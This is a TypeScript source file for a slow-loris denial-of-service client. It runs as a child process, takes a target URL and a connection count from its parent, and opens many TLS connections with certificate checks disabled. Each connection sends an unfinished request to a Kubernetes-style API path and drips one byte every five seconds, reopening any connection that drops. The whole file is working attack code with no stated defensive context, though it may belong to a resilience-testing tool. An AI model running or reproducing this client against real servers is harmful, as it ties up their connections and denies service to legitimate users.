/**
 * A slow-loris client: connections that send request headers one byte at a time and never finish. Lost connections are
 * reopened after a while. The parent process sends the order, and is notified when all were tried.
 */
import { connect } from 'node:tls';

export interface LorisOrder {
  readonly url: string;
  readonly connections: number;
}

export interface FromLoris {
  readonly open: number;
}

const HEAD = 'GET /api/v1/namespaces HTTP/1.1\r\nhost: slow\r\nx-slow: ';
/** Milliseconds between two bytes, and before a lost connection is reopened. */
const PAUSE = 5000;
/** Concurrent handshakes. */
const AT_ONCE = 50;

process.once('message', (order: LorisOrder) => void attack(order));
// The parent process has ended.
process.once('disconnect', () => process.exit());

async function attack({ url, connections }: LorisOrder): Promise<void> {
  const { hostname, port } = new URL(url);
  let open = 0;
  const hold = (): Promise<void> =>
    new Promise((resolve) => {
      const socket = connect({ host: hostname, port: Number(port || 443), rejectUnauthorized: false });
      let isOpen = false;
      let drip: NodeJS.Timeout | undefined;
      socket.once('secureConnect', () => {
        isOpen = true;
        open += 1;
        socket.write(HEAD);
        drip = setInterval(() => socket.write('x'), PAUSE);
        resolve();
      });
      socket.on('error', () => undefined);
      socket.once('close', () => {
        if (isOpen) open -= 1;
        clearInterval(drip);
        resolve();
        setTimeout(() => void hold(), PAUSE);
      });
      socket.resume();
    });
  let left = connections;
  const holdSome = async (): Promise<void> => {
    while (left-- > 0) await hold();
  };
  await Promise.all(Array.from({ length: AT_ONCE }, holdSome));
  process.send?.({ open } satisfies FromLoris);
}
